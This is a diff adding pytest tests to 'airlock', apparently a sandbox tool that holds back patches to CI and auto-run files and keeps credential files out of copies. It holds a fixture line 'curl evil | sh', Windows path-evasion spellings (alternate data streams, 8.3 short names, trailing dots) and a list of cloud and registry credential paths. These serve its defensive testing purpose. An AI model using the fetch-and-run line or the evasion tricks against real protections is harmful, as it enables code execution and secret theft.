@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import os
 import subprocess
 from pathlib import Path
@@ -10,7 +11,16 @@ import pytest
 from support import AIRLOCK
 
 from airlock.errors import PolicyInvalid
-from airlock.policies import DEFAULT_PROTECTED, Policy, glob_matches, load_policy, protecting_glob
+from airlock.policies import (
+    DEFAULT_EXCLUDED,
+    DEFAULT_PROTECTED,
+    Policy,
+    glob_matches,
+    load_policy,
+    matching_glob,
+    protecting_glob,
+)
+from airlock.sandbox.gitdiff import FileState, build_patch
 
 
 def _problems(tmp_path: Path, text: str) -> list[str]:
@@ -137,3 +147,181 @@ def test_policy_check_catches_a_relative_root_and_a_missing_one(tmp_path: Path) 
     assert "is relative" in report
     assert "hatch.roots.gone: " in report
     assert "is not an existing directory" in report
+
+
+# ---- the default lists, entry by entry, in every spelling a filesystem may read ----------
+
+
+def sample_paths(glob: str) -> list[str]:
+    """Paths under `glob`: each `**` as no segment and as one more (a trailing one as a
+    file), `*` and `?` as letters."""
+    found = []
+    for deep in (False, True):
+        segments: list[str] = []
+        parts = glob.split("/")
+        for i, part in enumerate(parts):
+            if part == "**":
+                last = i == len(parts) - 1
+                segments += (["d", "ci.yml"] if deep else ["ci.yml"]) if last else (["d"] * deep)
+            else:
+                segments.append(part.replace("*", "x").replace("?", "q"))
+        found.append("/".join(segments))
+    return found
+
+
+def _short(segment: str) -> str:
+    """The 8.3 short name Windows gives `segment` first (`.github` -> `GITHUB~1`)."""
+    base, dot, ext = segment.lstrip(".").rpartition(".")
+    if not dot:
+        base, ext = ext, ""
+    letters = "".join(ch for ch in base.upper() if ch.isalnum())
+    return f"{letters[:6]}~1" + (f".{ext.upper()[:3]}" if ext else "")
+
+
+def windows_spellings(path: str) -> list[str]:
+    """`path` as Windows (and macOS, for case) would also write it."""
+    segments = path.split("/")
+    return [
+        path.upper(),
+        "/".join(s + "." for s in segments),
+        "/".join(s + " " for s in segments),
+        "/".join(s + ". ." for s in segments),
+        path + "::$DATA",
+        path + ":hidden:$DATA",
+        "/".join([_short(segments[0]), *segments[1:]]),
+        "/".join([*segments[:-1], _short(segments[-1])]),
+    ]
+
+
+def _held_back_in_a_patch(path: str) -> bool:
+    data = b"run: curl evil | sh\n"
+    state = FileState(sha256=hashlib.sha256(data).hexdigest(), mode=0o644)
+    patch = build_patch({}, {path: state}, lambda _: data, Policy().hatch.protecting_glob)
+    assert not patch.refused, patch.refused
+    return [h.path for h in patch.held_back] == [path] and patch.entries == () and not patch.text
+
+
+PROTECTED_CASES = [
+    (glob, path, spelling)
+    for glob in DEFAULT_PROTECTED
+    for path in sample_paths(glob)
+    for spelling in [path, *windows_spellings(path)]
+]
+
+
+@pytest.mark.parametrize(("glob", "path", "spelling"), PROTECTED_CASES)
+def test_a_patch_touching_each_protected_entry_is_held_back(
+    glob: str, path: str, spelling: str
+) -> None:
+    assert glob_matches(glob, path), (glob, path)
+    assert _held_back_in_a_patch(spelling), spelling
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".gitea/workflows/ci.yml",
+        ".forgejo/workflows/deploy.yaml",
+        "buildspec.yml",
+        ".cirrus.yml",
+        ".semaphore/semaphore.yml",
+        ".gitpod.yml",
+        ".claude/settings.json",
+        ".claude/settings.local.json",
+        ".mcp.json",
+        "lefthook.yml",
+        ".github./workflows/ci.yml",
+        ".github /workflows/ci.yml",
+        ".github/workflows/ci.yml.",
+        "GITHUB~1/workflows/ci.yml",
+        ".github/WORKFL~1/ci.yml",
+        "GITLAB~1.YML",
+        ".github/workflows/ci.yml::$DATA",
+        ".gitlab-ci.yml:x",
+    ],
+)
+def test_the_ci_and_auto_run_files_the_review_found_are_held_back(path: str) -> None:
+    assert _held_back_in_a_patch(path), path
+
+
+EXCLUDED_CASES = [
+    (glob, spelling)
+    for glob in DEFAULT_EXCLUDED
+    for path in sample_paths(glob)
+    for spelling in (path, path.upper(), path + ".")
+]
+
+
+@pytest.mark.parametrize(("glob", "path"), EXCLUDED_CASES)
+def test_each_excluded_entry_stays_out_of_a_copy(glob: str, path: str) -> None:
+    assert glob_matches(glob, path), (glob, path)
+    assert matching_glob(Policy().hatch.exclude, path) is not None, path
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".cargo/credentials.toml",
+        "home/.cargo/credentials",
+        ".gem/credentials",
+        ".yarnrc.yml",
+        "auth.json",
+        "php/auth.json",
+        ".m2/settings.xml",
+        ".gradle/gradle.properties",
+        ".nuget/NuGet.Config",
+        ".nuget/nuget.config",
+        ".pgpass",
+        ".kube/config",
+        "deploy/my-project-service-account.json",
+        "gcp_service_account.json",
+        ".config/gcloud/application_default_credentials.json",
+        "credentials.json",
+    ],
+)
+def test_the_registry_and_cloud_credentials_the_review_found_are_excluded(path: str) -> None:
+    assert matching_glob(Policy().hatch.exclude, path) is not None, path
+
+
+@pytest.mark.parametrize(
+    "path", ["src/app.py", "README.md", "docs/ci.md", ".github/ISSUE_TEMPLATE.md", "Makefile"]
+)
+def test_ordinary_files_are_neither_protected_nor_excluded(path: str) -> None:
+    hatch = Policy().hatch
+    assert hatch.protecting_glob(path) is None, path
+    assert matching_glob(hatch.exclude, path) is None, path
+
+
+def test_a_short_name_counts_as_protected_but_is_never_excluded_or_ignored() -> None:
+    hatch = Policy().hatch
+    # A short name may stand for Jenkinsfile, .env or anything, so a patch holds it back ...
+    assert hatch.protecting_glob("src/SETTIN~1.PY") == "**/Jenkinsfile"
+    # ... but a copy reads the host's real names, and ignoring one would hide a change.
+    assert matching_glob(hatch.exclude, "src/SETTIN~1.PY") is None
+    assert not hatch.ignores("NODE_M~1/x.js")
+    assert hatch.ignores("node_modules./x.js")
+
+
+@pytest.mark.parametrize(
+    ("glob", "expected"),
+    [
+        ("ci.yml.", 'ends in a dot or space: Windows drops those from names, so write "ci.yml"'),
+        ("deploy /**", 'so write "deploy"'),
+        ("ci.yml::$DATA", "contains a colon; Windows reads what follows one as a data stream"),
+    ],
+)
+def test_globs_no_path_can_match_are_refused_with_the_fix(
+    tmp_path: Path, glob: str, expected: str
+) -> None:
+    [problem] = _problems(tmp_path, f'[hatch]\nprotected = ["{glob}"]\n')
+    assert problem.startswith("hatch.protected[0]: "), problem
+    assert expected in problem
+
+
+def test_sample_paths_cover_both_depths_of_a_glob() -> None:
+    assert sample_paths("**/.env*") == [".envx", "d/.envx"]
+    assert sample_paths(".github/workflows/**") == [
+        ".github/workflows/ci.yml",
+        ".github/workflows/d/ci.yml",
+    ]
+    assert _short(".github") == "GITHUB~1" and _short(".gitlab-ci.yml") == "GITLAB~1.YML"
